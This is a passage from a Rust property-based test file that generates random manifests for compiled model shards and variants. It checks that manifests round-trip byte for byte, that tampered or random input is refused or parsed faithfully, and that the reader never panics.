            AssetEntry {
                name: format!("table {index}"),
                entries,
                width,
                dtype,
                table: FileReference { sha256, bytes: dtype.packed_bytes(&shape).unwrap() },
                quantisation,
                redirect: (0..entries as u32 % 5).map(|token| (token * 7, token % entries as u32)).collect(),
            }
        },
    )
}

/// Returns the formats of a segment. The last of several layers has other weights, if `last`
/// differs.
fn mixed(segment: Segment, (formats, last): (FormatTuple, WeightFormat)) -> ShardFormats {
    let other = FormatTuple { weights: last, ..formats.clone() };
    let (first, end) = segment.layers;
    if !segment.component.is_layered() {
        return ShardFormats::Uniform(formats);
    }
    let layers = (first..end).map(|layer| {
        let tuple = if layer + 1 == end && end > first + 1 { &other } else { &formats };
        (Segment::decoder(layer, layer + 1), tuple)
    });
    ShardFormats::of(layers).expect("at least one layer")
}

/// Gives the second shard, which has both layers, these runs of formats.
fn mix(manifest: &mut Manifest, runs: &[(u32, u32, WeightFormat)]) {
    let run = |&(first, end, weights): &(u32, u32, WeightFormat)| SegmentFormats {
        segment: Segment::decoder(first, end),
        formats: FormatTuple::uniform(weights, ActivationFormat::A16, StateFormat::F16),
    };
    let shard = &mut manifest.variants[0].chains[0].shards[1];
    shard.segments = Segment::decoder(0, 2).into();
    shard.formats = ShardFormats::Mixed(runs.iter().map(run).collect());
}

/// Returns a consistent segment.
fn segment(component: ComponentKind, first: u32, count: u32) -> Segment {
    if component.is_layered() {
        Segment::decoder(first, first + count + 1)
    } else {
        Segment::whole(component)
    }
}

/// The components of text.
const OF_A_STEP: &[ComponentKind] = &[
    ComponentKind::Embed,
    ComponentKind::PerLayerInput,
    ComponentKind::Decoder,
    ComponentKind::Head,
    ComponentKind::Pooling,
];

fn shard_entry(index: usize) -> impl Strategy<Value = ShardEntry> {
    let rewrite = one_of(&[RewriteKind::Decomposed, RewriteKind::ByRuntime]);
    let rewritten = (entry_name(), word(), rewrite, sentence())
        .prop_map(|(entry, name, rewrite, reason)| Rewrite { entry, name, rewrite, reason });
    let placement = (entry_name(), word(), word(), sentence())
        .prop_map(|(entry, node, place, reason)| NodePlacement { entry, node, place, reason });
    let flag = (word(), sentence(), verdict(), sentence()).prop_map(|(name, value, verdict, reason)| {
        FlagRecord { flag: Flag { name, value }, verdict, reason }
    });
    let formats = (
        one_of(WeightFormat::ALL),
        proptest::option::of((one_of(WeightRole::ALL), one_of(WeightFormat::ALL))),
        one_of(ActivationFormat::ALL),
        one_of(StateFormat::ALL),
        one_of(AttentionFormat::ALL),
        one_of(WeightFormat::ALL),
    )
        .prop_map(|(weights, role, activations, states, attention, second)| {
            let roles = role.into_iter().map(|(role, format)| RoleFormat { role, format }).collect();
            (FormatTuple { weights, roles, activations, states, attention }, second)
        });
    let target = (word(), word(), word(), one_of(TargetKind::ALL))
        .prop_map(|(name, shim, device, kind)| Target { name, shim, device, kind });
    let shim = (word(), word(), word(), any::<bool>())
        .prop_map(|(shim, version, device, simulated)| ShimIdentity { shim, version, device, simulated });
    let files = (reference(), reference(), digest());
    let lists = (
        proptest::collection::btree_set(entry_name(), 0..4),
        proptest::collection::vec(flag, 0..3),
        proptest::collection::vec(rewritten, 0..3),
        proptest::collection::vec(placement, 0..3),
    );
    (word(), one_of(OF_A_STEP), (0..3_u32, 0..3_u32), target, shim, formats, files, lists).prop_map(
        move |(name, component, (first, count), target, compiled_by, formats, files, lists)| ShardEntry {
            name: format!("{name} {index}"),
            segments: segment(component, first, count).into(),
            target,
            compiled_by,
            formats: mixed(segment(component, first, count), formats),
            entries: lists.0.into_iter().collect(),
            artefact: files.0,
            head: files.1,
            work_order: files.2,
            load_flags: Vec::new(),
            flags: lists.1,
            rewritten: lists.2,
            logits_softcap: None,
            placements: lists.3,
        },
    )
}

fn several<S: Strategy>(
    make: fn(usize) -> S,
    range: std::ops::Range<usize>,
) -> impl Strategy<Value = Vec<S::Value>> {
    range.prop_flat_map(move |count| (0..count).map(make).collect::<Vec<_>>())
}

fn chain_entry(index: usize) -> impl Strategy<Value = ChainEntry> {
    let files = (reference(), reference(), proptest::option::of(reference()));
    let gain = proptest::option::of(any::<u32>());
    let draft = (word(), proptest::collection::vec(any::<u32>(), 0..=ChosenSpeculation::ACCEPTED_MAX));
    let speculation = (draft, 2..=u32::MAX, gain, one_of(Provenance::ALL)).prop_map(
        |((draft, accepted_steps), rows, gain_thousandths, provenance)| ChosenSpeculation {
            draft,
            rows,
            gain_thousandths,
            provenance,
            accepted_steps,
        },
    );
    let said = (proptest::option::of(word()), proptest::option::of(speculation));
    let planner = (word(), word(), any::<bool>()).prop_map(|(name, version, built_in)| PlannerIdentity {
        name,
        version,
        built_in,
    });
    let hedge = (proptest::collection::vec((word(), any::<u64>()), 0..3), proptest::option::of(planner));
    (said, hedge, files, several(shard_entry, 1..4)).prop_map(
        move |((emulated_on, speculation), (within, planner), (request, plan, report), mut shards)| {
            if let Some(own) = &speculation {
                let verifying = EntryName { kind: EntryKind::Decode, rows: own.rows, context: 1 };
                shards.iter_mut().for_each(|shard| shard.entries.push(verifying));
            }
            let name = format!("chain {index}");
            ChainEntry { name, emulated_on, within, planner, request, plan, report, speculation, shards }
        },
    )
}

prop_compose! {
    fn variant()(
        (soc, aliases, calibration) in (
            "[a-z0-9][a-z0-9-]{0,10}[a-z0-9]",
            proptest::collection::vec(word(), 0..3),
            proptest::option::of(digest()),
        ),
        (planner, version, built_in) in (word(), word(), any::<bool>()),
        options in proptest::collection::btree_map(word(), option_value(), 0..4),
        (hidden, vocabulary, context, per_layer_width) in any::<(u64, u64, u64, u64)>(),
        states in proptest::collection::vec((0..9_u32, 1..=u64::MAX, proptest::option::of(any::<u32>())), 0..5),
        assets in several(asset_entry, 0..3),
        chains in several(chain_entry, 1..3),
        towers in any::<bool>(),
        verifications in proptest::collection::vec((any::<bool>(), sentence(), reference()), 0..3),
        notices in proptest::collection::vec((any::<bool>(), sentence()), 0..3),
    ) -> Variant {
        Variant {
            soc: PlainName::new(soc).unwrap(),
            aliases,
            calibration,
            planner: PlannerIdentity { name: planner, version, built_in },
            options,
            structure: Structure {
                hidden,
                vocabulary,
                context,
                per_layer_width,
                layers: 9,
                components: OF_A_STEP.to_vec(),
                states: states.into_iter().enumerate().map(|(index, (layer, width, window))| State {
                    name: format!("state {index}"),
                    layer,
                    width,
                    kind: window.map_or(StateKind::Linear, |window| StateKind::Ring { window }),
                }).collect(),
            },
            assets,
            verifications: verifications.into_iter().enumerate().map(|(index, (passed, summary, report))| Verification {
                name: format!("verification {index}"),
                chain: chains[0].name.clone(),
                passed,
                summary,
                report,
                twin: (index % 2 == 0).then(|| TwinEntry {
                    device: "simulated".to_owned(),
                    artefacts: vec![report.sha256; chains[0].shards.len()],
                    differs: String::new(),
                }),
            }).collect(),
            chains,
            towers: if towers { sample().variants.remove(0).towers } else { Vec::new() },
            notices: notices.into_iter().map(|(fallback, text)| Notice {
                kind: if fallback { NoticeKind::Fallback } else { NoticeKind::Note },
                text,
            }).collect(),
        }
    }
}

prop_compose! {
    fn manifest()(
        (program, name, family, checkpoint) in (word(), word(), word(), digest()),
        mut texts in proptest::collection::btree_map(one_of(TextFile::ALL), reference(), 0..9),
        tokenizer_index in proptest::option::of(reference()),
        goldens in proptest::option::of(reference()),
        mut variants in proptest::collection::vec(variant(), 1..3),
    ) -> Manifest {
        if let Some(index) = tokenizer_index {
            texts.insert(TextFile::Tokenizer, index);
        }
        for (index, variant) in variants.iter_mut().enumerate() {
            variant.soc = PlainName::new(format!("chip-{index}")).unwrap();
        }
        Manifest {
            program,
            model: ModelIdentity { name, family, checkpoint },
            texts,
            tokenizer_index,
            goldens,
            variants,
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 128, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn a_written_manifest_is_read_back_in_the_same_bytes(manifest in manifest()) {
        let bytes = written(&manifest).unwrap();
        let found = read(&bytes).unwrap();
        prop_assert_eq!(&found, &manifest);
        prop_assert_eq!(written(&found).unwrap(), bytes);
    }

    #[test]
    fn a_changed_manifest_under_a_right_hash_is_refused_or_means_what_it_says(
        manifest in manifest(),
        edits in proptest::collection::vec((any::<prop::sample::Index>(), any::<u8>(), 0..3_u8), 1..4),
    ) {
        let mut json = json_of(&manifest).into_bytes();
        for (index, byte, edit) in edits {
            let at = index.index(json.len());
            match edit {
                0 => json[at] = byte,
                1 => json.insert(at, byte),
                _ => drop(json.remove(at)),
            }
        }
        let bytes = seal(&json).0;
        // It never panics, and an accepted manifest has exactly the changed content.
        if let Ok(found) = read(&bytes) {
            prop_assert_eq!(written(&found).unwrap(), bytes);
        }
    }

    #[test]
    fn random_bytes_are_no_manifest(bytes in proptest::collection::vec(any::<u8>(), 0..300)) {
        prop_assert!(read(&bytes).is_err());
        prop_assert!(read(&seal(&bytes).0).is_err());
    }
}
